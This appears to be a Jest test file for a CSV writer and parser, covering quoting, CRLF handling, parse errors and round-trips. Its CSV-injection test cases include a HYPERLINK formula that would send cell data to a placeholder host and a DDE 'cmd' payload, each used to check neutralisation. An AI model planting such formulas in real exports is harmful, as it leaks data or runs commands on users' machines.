import { csvField, csvRow, parseCsv } from '../../src/core/csv';

describe('csvField', () => {
  it.each<[string | number | null, string]>([
    ['plain', 'plain'],
    [42, '42'],
    [null, ''],
    ['', ''],
    ['a,b', '"a,b"'],
    ['she said "hi"', '"she said ""hi"""'],
    ['line one\nline two', '"line one\nline two"'],
    ['carriage\r\nreturn', '"carriage\r\nreturn"'],
    ['"', '""""'],
    [' leading space', '" leading space"'],
    ['trailing space ', '"trailing space "'],
    ['comma, "quote" and\nnewline', '"comma, ""quote"" and\nnewline"'],
  ])('writes %j as %j', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  // OWASP CSV injection: a text cell a spreadsheet would run as a formula starts with a single quote.
  it.each<[string | number, string]>([
    ['=HYPERLINK("http://x"&A1,"click")', '"\'=HYPERLINK(""http://x""&A1,""click"")"'],
    ['=1+1', "'=1+1"],
    ['+cmd|\' /C calc\'!A0', "'+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', '"\'\r=1+1"'],
    ['a=b', 'a=b'],
    ['note with - dash', 'note with - dash'],
    [30, '30'],
    [-5, '-5'],
    [1.5, '1.5'],
  ])('neutralises %j as %j, numbers staying numbers', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it('ends every row in CRLF', () => {
    expect(csvRow(['a', 'b,c', null])).toBe('a,"b,c",\r\n');
  });
});

describe('parseCsv', () => {
  it.each<[string, string, string[][]]>([
    ['LF line ends', 'a,b\nc,d\n', [['a', 'b'], ['c', 'd']]],
    ['CRLF line ends', 'a,b\r\nc,d\r\n', [['a', 'b'], ['c', 'd']]],
    ['no final line end', 'a,b\nc,d', [['a', 'b'], ['c', 'd']]],
    ['empty fields', 'a,,c\n', [['a', '', 'c']]],
    ['a trailing empty field', 'a,b,\n', [['a', 'b', '']]],
    ['quoted commas', '"a,b",c\n', [['a,b', 'c']]],
    ['doubled quotes', '"say ""hi""",x\n', [['say "hi"', 'x']]],
    ['a newline inside quotes', '"one\ntwo",x\ny,z\n', [['one\ntwo', 'x'], ['y', 'z']]],
    ['blank lines skipped', 'a\n\n\nb\n', [['a'], ['b']]],
    ['a byte-order mark', '\ufeffa,b\n', [['a', 'b']]],
  ])('reads %s', (_name, text, expected) => {
    const r = parseCsv(text);
    expect(r.ok && r.records.map((x) => x.fields)).toEqual(expected);
  });

  it('numbers records by the physical line they start on, counting newlines inside quotes', () => {
    const r = parseCsv('h\n"multi\nline",x\n\nlast\n');
    expect(r.ok && r.records.map((x) => x.line)).toEqual([1, 2, 5]);
  });

  it.each<[string, string, number, RegExp]>([
    ['an unclosed quote', 'a\n"never closed,b\n', 2, /never closed/],
    ['text after a closing quote', 'a\n"x"y,b\n', 2, /closing quote/],
    ['a bare quote inside a field', 'a\nx"y,b\n', 2, /quote inside an unquoted field/],
  ])('refuses %s and names its line', (_name, text, line, message) => {
    const r = parseCsv(text);
    expect(r.ok).toBe(false);
    if (!r.ok) {
      expect(r.line).toBe(line);
      expect(r.message).toMatch(message);
    }
  });

  it('reads back exactly what csvRow wrote, whatever the note holds', () => {
    const values = ['a,b', 'quote " inside', 'multi\r\nline', '', ' pad ', 'plain'];
    const r = parseCsv(csvRow(values) + csvRow(['x']));
    expect(r.ok && r.records.map((x) => x.fields)).toEqual([values, ['x']]);
  });
});
